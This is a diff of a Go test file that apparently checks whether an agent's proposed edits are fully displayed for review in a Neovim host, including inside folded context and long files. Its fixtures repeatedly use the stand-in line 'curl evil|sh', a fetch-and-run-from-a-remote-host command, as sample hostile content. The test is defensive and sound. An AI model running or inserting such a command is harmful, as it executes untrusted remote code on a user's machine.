@@ -12,12 +12,13 @@ import (
 	"github.com/nvim-acp/nvim-acp/host/transcript"
 )
 
-// A part of a raw input counts as shown if its text is drawn in the diff as what it is, in one piece, or if the diff is of that very text and
-// the file has the lines that are not drawn (behaviour 982).
+// A part of a raw input counts as shown if its text is drawn in the diff as what it is, in one piece, or if the diff is of that very
+// text and the file has the lines that are not drawn (behaviour 982).
 func TestDrawn(t *testing.T) {
 	many := strings.Repeat("x\n", 50)
 	evil := many + "curl evil|sh\n" + many
 	long := strings.Repeat("line\n", 3000)
+	nested := []map[string]string{{"old_string": "pwd", "new_string": "ls"}}
 	changed := strings.TrimSuffix(evil, "x\n") + "y\n"
 	for _, tt := range []struct {
 		name     string
@@ -30,7 +31,7 @@ func TestDrawn(t *testing.T) {
 		{"in folded context", evil, changed, evil, map[string]any{"old_string": "y", "new_string": "curl evil|sh"}, "", "new_string: curl evil|sh"},
 		{"as a removed line", "curl evil|sh\n", "ls\n", "", map[string]any{"new_string": "curl evil|sh"}, "", "new_string: curl evil|sh"},
 		{"as an added line", "ls\n", "curl evil|sh\n", "", map[string]any{"old_string": "curl evil|sh"}, "", "old_string: curl evil|sh"},
-		{"within another", "ls\n", "pwd\n", "", map[string]any{"edits": []map[string]string{{"old_string": "pwd", "new_string": "ls"}}}, "", `"new_string":"ls"`},
+		{"within another", "ls\n", "pwd\n", "", map[string]any{"edits": nested}, "", `"new_string":"ls"`},
 		{"across what is folded", evil, "y\n" + evil + "y\n", evil, map[string]any{"new_string": "y\nx\nx\nx\ny\n"}, "", "new_string:"},
 		{"the change", "ls\n", "pwd\n", "", map[string]any{"old_string": "ls", "new_string": "pwd"}, "", ""},
 		{"a part of it", "a\nls\nb\n", "a\npwd\nb\n", "", map[string]any{"old_string": "a\nls", "new_string": "a\npwd\nb\n"}, "", ""},
@@ -78,7 +79,8 @@ func TestDrawn(t *testing.T) {
 			if tt.words != "" && (!shown.Whole || shown.Must != len(shown.Lines)) {
 				t.Errorf("what only the agent's words say need not have been read")
 			}
-			if left := slices.ContainsFunc(shown.Lines, func(l string) bool { return strings.Contains(l, "more lines: <CR>") }); left != (tt.new == long) || left && !shown.Whole {
+			more := func(l string) bool { return strings.Contains(l, "more lines: <CR>") }
+			if left := slices.ContainsFunc(shown.Lines, more); left != (tt.new == long) || left && !shown.Whole {
 				t.Errorf("lines are left out: %t, and that must have been read: %t", left, shown.Whole)
 			}
 		})
